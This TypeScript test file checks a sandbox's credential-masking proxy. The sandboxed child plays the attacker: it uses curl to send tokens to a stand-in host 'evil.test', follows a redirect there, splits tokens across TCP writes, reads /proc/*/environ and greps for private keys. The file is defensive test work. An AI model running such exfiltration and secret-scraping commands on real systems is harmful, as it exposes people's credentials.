// Attacks on credential masking (credentialMasking / credentialProviders, docs/security.md
// "Credential masking"), with the real bubblewrap sandbox, the real relay and proxy, and
// loopback origins: plain HTTP on `localhost`, HTTPS for `api.secret.test` and `evil.test`
// (this test's resolver maps both to 127.0.0.1; never real DNS), signed by a test CA that the
// proxy trusts only through EXEC_SERVER_TEST_UPSTREAM_CA, set in this process's environment.
// The sandboxed command is the attacker: it looks for the real value in its environment, its
// /proc and the files it can read, looks for the CA's key, sends the dummy to another host, to
// a look-alike path, through a redirect, and splits the dummy across two TCP writes. Every
// test failed on the code before masking (a masking start was refused with -32600).
import assert from 'node:assert/strict';
import fs from 'node:fs';
import type http from 'node:http';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { managedSandbox, workspaceWriteEntries } from '../../../src/protocol/codex-sandbox';
import { ProcessCa } from '../../../src/server/network/mitm-ca';
import { setNetworkResolver } from '../../../src/server/network/resolve';
import { serverWithTmpDir, startParams, uri, type Client } from '../../support/server';
import { startTestOrigins, type TestOrigins } from '../../support/test-origins';

let c: Client;
let close: () => Promise<void>;
let dir: string;
let W: string;
let stateDir: string;
let testCa: ProcessCa;
let origins: TestOrigins;
let port: number;
let tport: number;
/** What the origins received: `<host> <path> <authorization> <body>`. */
const seen: string[] = [];
const savedEnv = { XDG_STATE_HOME: process.env.XDG_STATE_HOME, EXEC_SERVER_TEST_UPSTREAM_CA: process.env.EXEC_SERVER_TEST_UPSTREAM_CA };

const SVC_REAL = 'svc_RealSecretValue0123456789ABC';
const HT_REAL = 'ht_realrealrealreal';
const GH_REAL = `ghp_${'R'.repeat(36)}`;

before(async () => {
  ({ c, dir, close } = await serverWithTmpDir());
  W = path.join(dir, 'work');
  stateDir = path.join(dir, 'state');
  fs.mkdirSync(W, { recursive: true });
  process.env.XDG_STATE_HOME = stateDir;
  // The origins' CA (a separate ProcessCa in its own directory: nothing of it is the proxy's).
  testCa = await ProcessCa.create(path.join(dir, 'test-ca'));
  fs.writeFileSync(path.join(W, 'test-ca.pem'), testCa.certPem);
  process.env.EXEC_SERVER_TEST_UPSTREAM_CA = path.join(W, 'test-ca.pem');
  const record = (req: http.IncomingMessage, res: http.ServerResponse) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      seen.push(`${req.headers.host} ${req.url} ${req.headers.authorization ?? '-'} ${body}`.trim());
      if (req.url?.endsWith('/redirect')) {
        res.writeHead(302, { location: `https://evil.test:${tport}/v1/leak` });
        return res.end();
      }
      res.end(`got ${req.headers.authorization ?? '-'}\n`);
    });
  };
  origins = await startTestOrigins(testCa, record);
  ({ port, tport } = origins);
  setNetworkResolver(async (host) => {
    if (host === 'api.secret.test' || host === 'evil.test' || host === 'localhost') return [{ address: '127.0.0.1', family: 4 }];
    throw new Error(`no such test name ${host}`);
  });
});
after(async () => {
  setNetworkResolver(undefined);
  for (const [k, v] of Object.entries(savedEnv)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
  await close();
  await origins.close();
});

const PROXY = { enabled: true, enableSocks5: true, enableSocks5Udp: true, allowUpstreamProxy: true, dangerouslyAllowAllUnixSockets: false, mode: 'full', allowLocalBinding: true };
const providers = () => ({
  svc: { env: ['SVC_TOKEN'], patterns: ['svc_[A-Za-z0-9]{28}'], url_prefixes: [`https://api.secret.test:${tport}/v1/`], auth: [] },
  ht: { env: ['HT_TOKEN'], patterns: ['ht_[a-z]{16}'], url_prefixes: [`http://localhost:${port}/api/`] },
});
const launch = () => ({ proxy: { ...PROXY, domains: { 'api.secret.test': 'allow', 'evil.test': 'allow', localhost: 'allow' }, credentialMasking: true, credentialProviders: providers() } });
const sandbox = () => managedSandbox({ entries: workspaceWriteEntries({ slashTmp: false }), cwd: uri(W), network: 'enabled' });
const secrets = () => ({ SVC_TOKEN: SVC_REAL, HT_TOKEN: HT_REAL, GITHUB_TOKEN: GH_REAL });

let n = 0;
async function run(script: string, argv?: string[]): Promise<{ out: string; env: Record<string, string> }> {
  const id = `cm${++n}`;
  seen.length = 0;
  const full = argv ?? ['/bin/bash', '-c', `exec 2>&1\nenv > ${W}/env-${id}.txt\n${script}`];
  const r = await c.call('process/start', startParams(id, full, { cwd: uri(W), env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir, LANG: 'C', ...secrets() }, sandbox: sandbox(), enforceManagedNetwork: true, networkProxy: launch() }));
  assert.deepEqual(r, { processId: id, sandboxType: 'linuxSeccomp' });
  await c.sink.waitFor(() => c.sink.closed(id), 60_000, `${id} closed`);
  const out = c.sink.outputText(id);
  const envFile = path.join(W, `env-${id}.txt`);
  const text = fs.existsSync(envFile) ? fs.readFileSync(envFile, 'utf8') : out;
  const env = Object.fromEntries(text.split('\n').filter((l) => /^[A-Za-z_][A-Za-z0-9_]*=/.test(l)).map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
  return { out, env };
}

/** curl trusting the child's bundle plus the origins' test CA (for hosts that are not intercepted). */
const curl = () => `cat "$CURL_CA_BUNDLE" ${W}/test-ca.pem > ${W}/both.pem; curl -sS --cacert ${W}/both.pem`;

test('HTTPS: the bound origin gets the real value through the interception; the child saw only its dummy and a leaf of the process CA', async () => {
  const r = await run(`${curl()} -v https://api.secret.test:${tport}/v1/x -H "Authorization: Bearer $SVC_TOKEN" 2>&1 | grep -E '^got|issuer:'`);
  assert.match(r.env.SVC_TOKEN, /^svc_[A-Za-z0-9]{28}$/);
  assert.notEqual(r.env.SVC_TOKEN, SVC_REAL);
  assert.match(r.out, /issuer: CN=codex-exec-server network proxy MITM CA [0-9a-f]{12}\n/);
  assert.deepEqual(seen, [`api.secret.test:${tport} /v1/x Bearer ${SVC_REAL}`]);
  // The answer reaches the child as the origin sent it (it names the real value here only
  // because this origin echoes it back; the proxy does not mask responses, as on the reference).
  assert.match(r.out, new RegExp(`got Bearer ${SVC_REAL}`));
});

test('HTTPS: a dummy split across two TLS writes inside the intercepted tunnel is still swapped', async () => {
  const client = [
    "const net = require('net'), tls = require('tls'), fs = require('fs');",
    "const tok = process.env.SVC_TOKEN, port = Number(process.env.HTTP_PROXY.split(':').pop());",
    `const s = net.connect(port, '127.0.0.1', () => s.write('CONNECT api.secret.test:${tport} HTTP/1.1\\r\\nHost: api.secret.test:${tport}\\r\\n\\r\\n'));`,
    "s.once('data', () => {",
    "  const t = tls.connect({ socket: s, servername: 'api.secret.test', ca: fs.readFileSync(process.env.SSL_CERT_FILE) }, () => {",
    `    t.write('GET /v1/split HTTP/1.1\\r\\nHost: api.secret.test:${tport}\\r\\nAuthorization: Bearer ' + tok.slice(0, 10));`,
    "    setTimeout(() => t.write(tok.slice(10) + '\\r\\nConnection: close\\r\\n\\r\\n'), 300);",
    "    t.pipe(process.stdout);",
    "  });",
    "  t.on('error', (e) => console.log('tls error', e.message));",
    "});",
  ].join('\n');
  fs.writeFileSync(path.join(W, 'split-client.js'), client);
  const r = await run(`${process.execPath} ${W}/split-client.js`);
  assert.match(r.out, /HTTP\/1\.1 200 OK/);
  assert.deepEqual(seen, [`api.secret.test:${tport} /v1/split Bearer ${SVC_REAL}`]);
});

test('attack: the dummy sent to another host, to a path outside the prefix, as another header, or over plain HTTP stays a dummy', async () => {
  const script = [
    `${curl()} https://evil.test:${tport}/v1/x -H "Authorization: Bearer $SVC_TOKEN"`,
    `${curl()} https://api.secret.test:${tport}/v10 -H "Authorization: Bearer $SVC_TOKEN"`,
    `${curl()} https://api.secret.test:${tport}/v1/../admin --path-as-is -H "Authorization: Bearer $SVC_TOKEN"`,
    `${curl()} https://api.secret.test:${tport}/v1/y -H "X-Token: $SVC_TOKEN"`,
    `${curl()} https://api.secret.test:${tport}/v1/z -H "Authorization: Bearer $GITHUB_TOKEN"`,
    `${curl()} http://localhost:${port}/v1/x -x "$HTTP_PROXY" --noproxy "" -H "Authorization: Bearer $SVC_TOKEN"`,
  ].join('\n');
  const r = await run(script);
  const d = r.env.SVC_TOKEN;
  assert.deepEqual(seen, [
    `evil.test:${tport} /v1/x Bearer ${d}`,
    `api.secret.test:${tport} /v10 Bearer ${d}`,
    `api.secret.test:${tport} /v1/../admin Bearer ${d}`,
    `api.secret.test:${tport} /v1/y -`,
    `api.secret.test:${tport} /v1/z Bearer ${r.env.GITHUB_TOKEN}`,
    `localhost:${port} /v1/x Bearer ${d}`,
  ]);
  assert.ok(!seen.some((s) => s.includes(SVC_REAL) || s.includes(GH_REAL)));
});

test('attack: a redirect from the bound host to another host carries only the dummy there', async () => {
  const r = await run(`${curl()} -L --location-trusted https://api.secret.test:${tport}/v1/redirect -H "Authorization: Bearer $SVC_TOKEN"`);
  assert.deepEqual(seen, [`api.secret.test:${tport} /v1/redirect Bearer ${SVC_REAL}`, `evil.test:${tport} /v1/leak Bearer ${r.env.SVC_TOKEN}`]);
});

test('plain HTTP: a dummy split across two TCP writes is still swapped for the bound origin; a body in two chunks is passed as it is', async () => {
  const proxy = 'exec 3<>/dev/tcp/127.0.0.1/${HTTP_PROXY##*:}';
  const script = [
    proxy,
    `printf 'GET http://localhost:${port}/api/split HTTP/1.1\\r\\nHost: localhost:${port}\\r\\nAuthorization: Bearer %s' "\${HT_TOKEN:0:7}" >&3; sleep 0.5`,
    `printf '%s\\r\\nConnection: close\\r\\n\\r\\n' "\${HT_TOKEN:7}" >&3; timeout 5 cat <&3; echo`,
    proxy,
    `printf 'POST http://localhost:${port}/api/body HTTP/1.1\\r\\nHost: localhost:${port}\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n5\\r\\n%s\\r\\n' "\${HT_TOKEN:0:5}" >&3; sleep 0.5`,
    `printf 'e\\r\\n%s\\r\\n0\\r\\n\\r\\n' "\${HT_TOKEN:5}" >&3; timeout 5 cat <&3`,
  ].join('\n');
  const r = await run(script);
  assert.match(r.env.HT_TOKEN, /^ht_[a-z]{16}$/);
  assert.equal(seen.length, 2, r.out);
  assert.equal(seen[0], `localhost:${port} /api/split Bearer ${HT_REAL}`);
  assert.ok(seen[1].startsWith(`localhost:${port} /api/body - `), seen[1]);
  assert.ok(seen[1].endsWith(r.env.HT_TOKEN), `the body arrived as sent: ${seen[1]}`);
  assert.ok(!seen[1].includes(HT_REAL));
});

test('attack: the real values are nowhere the child can look (env, /proc/*/environ and cmdline, the state directory); the CA key is on no disk', async () => {
  const reals = [SVC_REAL, HT_REAL, GH_REAL];
  const script = [
    `for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/self/environ; do cat "$f" 2>/dev/null; echo; done > ${W}/procs.txt`,
    `grep -rl -e 'PRIVATE KEY' "$(dirname "$SSL_CERT_FILE")" ${stateDir} 2>/dev/null; echo "keys-searched rc=$?"`,
    `ls -l "$SSL_CERT_FILE"; stat -c '%a' "$(dirname "$SSL_CERT_FILE")"`,
  ].join('\n');
  const r = await run(script);
  const procs = fs.readFileSync(path.join(W, 'procs.txt'), 'utf8');
  assert.ok(procs.includes(r.env.SVC_TOKEN), 'the scan saw the child\'s own environment');
  for (const v of reals) {
    assert.ok(!procs.includes(v), 'no real value in any /proc the child can read');
    assert.ok(!Object.values(r.env).some((x) => x.includes(v)), 'no real value in the environment');
  }
  assert.match(r.out, /keys-searched rc=1/, 'no file with a private key in the bundle directory or state dir');
  assert.match(r.out, /^-rw-r--r-- .*ca-bundle-[0-9a-f]{64}\.pem$/m);
  assert.match(r.out, /^700$/m);
  // From the host: nothing under the state directory holds a key or a real value.
  for (const f of fs.readdirSync(path.join(stateDir, 'codex-exec-server', 'proxy'))) {
    const text = fs.readFileSync(path.join(stateDir, 'codex-exec-server', 'proxy', f), 'utf8');
    assert.ok(!text.includes('PRIVATE KEY') && !reals.some((v) => text.includes(v)), f);
  }
});

test('the bundle holds the system roots plus the process CA, in every TLS variable, and goes with the process', async () => {
  const r = await run(`grep -c 'BEGIN CERTIFICATE' "$SSL_CERT_FILE"; ${curl().replace(/ --cacert .*/, '')} -o /dev/null -w '%{http_code}\\n' https://evil.test:${tport}/v1/untrusted || echo untrusted-ok`);
  const file = r.env.SSL_CERT_FILE;
  assert.ok(file.startsWith(path.join(stateDir, 'codex-exec-server', 'proxy', 'ca-bundle-')));
  for (const k of ['CODEX_CA_CERTIFICATE', 'CURL_CA_BUNDLE', 'REQUESTS_CA_BUNDLE', 'NODE_EXTRA_CA_CERTS', 'PIP_CERT', 'BUNDLE_SSL_CA_CERT', 'GIT_SSL_CAINFO', 'CARGO_HTTP_CAINFO', 'NPM_CONFIG_CAFILE', 'npm_config_cafile', 'CLOUDSDK_CORE_CUSTOM_CA_CERTS_FILE', 'DENO_CERT']) assert.equal(r.env[k], file, k);
  const system = (fs.readFileSync('/etc/ssl/certs/ca-certificates.crt', 'utf8').match(/BEGIN CERTIFICATE/g) ?? []).length;
  assert.match(r.out, new RegExp(`^${system + 1}$`, 'm'));
  // A host that is not intercepted is verified against the bundle: the test CA is not in it.
  assert.match(r.out, /untrusted-ok|curl: \(60\)/);
  await c.sink.waitFor(() => !fs.existsSync(file), 10_000, 'the bundle removed after the process');
});

test('a login shell or a direct binary runs unmasked (as on the reference), with the CA bundle; nothing is intercepted', async () => {
  for (const argv of [['/bin/bash', '-lc', `env > ${W}/env-login.txt`], ['/usr/bin/env']]) {
    const id = `cm${++n}`;
    await c.call('process/start', startParams(id, argv, { cwd: uri(W), env: { PATH: '/usr/bin:/bin', HOME: dir, LANG: 'C', ...secrets() }, sandbox: sandbox(), enforceManagedNetwork: true, networkProxy: launch() }));
    await c.sink.waitFor(() => c.sink.closed(id), 60_000, `${id} closed`);
    const text = argv[0] === '/usr/bin/env' ? c.sink.outputText(id) : fs.readFileSync(path.join(W, 'env-login.txt'), 'utf8');
    assert.match(text, new RegExp(`^SVC_TOKEN=${SVC_REAL}$`, 'm'), argv.join(' '));
    assert.match(text, /^SSL_CERT_FILE=.*ca-bundle-[0-9a-f]{64}\.pem$/m);
    assert.doesNotMatch(text, /CODEX_NETWORK_PROXY_BROKERED_CREDENTIALS|CODEX_NETWORK_PROXY_CREDENTIAL_BROKER_ACTIVE/);
  }
});
